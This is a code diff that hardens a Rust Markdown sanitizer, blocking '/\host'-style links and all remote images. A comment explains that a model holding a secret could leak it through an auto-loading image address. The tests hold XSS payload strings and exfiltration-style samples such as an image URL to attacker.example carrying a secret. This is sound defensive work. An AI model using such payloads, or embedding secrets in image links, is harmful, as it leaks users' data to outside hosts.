@@ -35,21 +35,29 @@ pub fn safe_link(target: &str) -> bool {
     }
     match scheme_of(target) {
         Some(scheme) => matches!(scheme.as_str(), "http" | "https" | "mailto"),
-        // `//host/...` leaves the site: only with an allowed scheme.
-        None => !target.starts_with("//") && !target.starts_with("\\\\"),
+        // `//host`, `/\host` and `\\host` leave the site: only with an allowed scheme.
+        None => !leaves_the_site(target),
     }
 }
 
-/// Whether an image may be loaded: over `https`, or from this site.
+/// Whether an image may be loaded: only from this site. A remote image loads without a click,
+/// so a model that read a secret could send it away in the image's address; remote images
+/// are shown as their text.
 pub fn safe_image(target: &str) -> bool {
     let target = target.trim();
     if target.chars().any(|character| character.is_control()) {
         return false;
     }
-    match scheme_of(target) {
-        Some(scheme) => scheme == "https",
-        None => target.starts_with('/') && !target.starts_with("//"),
-    }
+    scheme_of(target).is_none() && target.starts_with('/') && !leaves_the_site(target)
+}
+
+/// A scheme-less address that browsers read as another host.
+fn leaves_the_site(target: &str) -> bool {
+    let mut start = target.chars().take(2);
+    matches!(
+        (start.next(), start.next()),
+        (Some('/' | '\\'), Some('/' | '\\'))
+    )
 }
 
 /// The scheme of a URL (lower case), if the text before the first `:` looks like one.
@@ -225,6 +233,9 @@ mod tests {
         "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
         "[click](vbscript:msgbox(1))",
         "[click](//evil.example)",
+        "[click](/\\evil.example)",
+        "![x](/\\evil.example/a.png)",
+        "![x](https://attacker.example/?secret=1)",
         "[click][ref]\n\n[ref]: javascript:alert(1)",
         "<javascript:alert(1)>",
         "![x](javascript:alert(1))",
@@ -358,6 +369,9 @@ mod tests {
             assert!(!lower.contains("src=\"data:"), "{payload:?}: {html}");
             assert!(!lower.contains("src=\"http:"), "{payload:?}: {html}");
             assert!(!lower.contains("href=\"//"), "{payload:?}: {html}");
+            assert!(!lower.contains("href=\"/\\"), "{payload:?}: {html}");
+            assert!(!lower.contains("src=\"https:"), "{payload:?}: {html}");
+            assert!(!lower.contains("src=\"/\\"), "{payload:?}: {html}");
             assert!(
                 !lower.contains("vbscript:msgbox(1)\""),
                 "{payload:?}: {html}"
@@ -377,7 +391,7 @@ mod tests {
     #[test]
     fn ordinary_markdown_renders() {
         let html = render(
-            "# Title\n\nSome *emphasis*, **strong**, `code` and [a link](https://example.com/a?b=c#d).\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n![logo](https://example.com/logo.png)\n\n[here](#section) and [there](/projects)\n",
+            "# Title\n\nSome *emphasis*, **strong**, `code` and [a link](https://example.com/a?b=c#d).\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n![logo](/icons/icon.svg)\n\n![remote](https://example.com/logo.png)\n\n[here](#section) and [there](/projects)\n",
         );
         assert!(html.contains("<h1>Title</h1>"));
         assert!(html.contains("<em>emphasis</em>"));
@@ -387,7 +401,11 @@ mod tests {
         ));
         assert!(html.contains("<li>one</li>"));
         assert!(html.contains("<table>"));
-        assert!(html.contains("<img src=\"https://example.com/logo.png\" alt=\"logo\""));
+        assert!(html.contains("<img src=\"/icons/icon.svg\" alt=\"logo\""));
+        assert!(
+            html.contains("<p>remote</p>"),
+            "a remote image is its text: {html}"
+        );
         assert!(html.contains("href=\"#section\""));
         assert!(html.contains("href=\"/projects\""));
         // A refused link keeps its text.
@@ -442,8 +460,14 @@ mod tests {
         ] {
             assert!(!safe_link(bad), "{bad}");
         }
-        assert!(safe_image("https://a.example/a.png"));
+        assert!(
+            !safe_image("https://a.example/a.png"),
+            "no request without a click"
+        );
         assert!(safe_image("/icons/a.png"));
+        assert!(!safe_image("/\\evil.example/a.png"));
+        assert!(!safe_link("/\\evil.example"));
+        assert!(!safe_link("\\/evil.example"));
         assert!(!safe_image("http://a.example/a.png"));
         assert!(!safe_image("data:image/png;base64,AAAA"));
     }
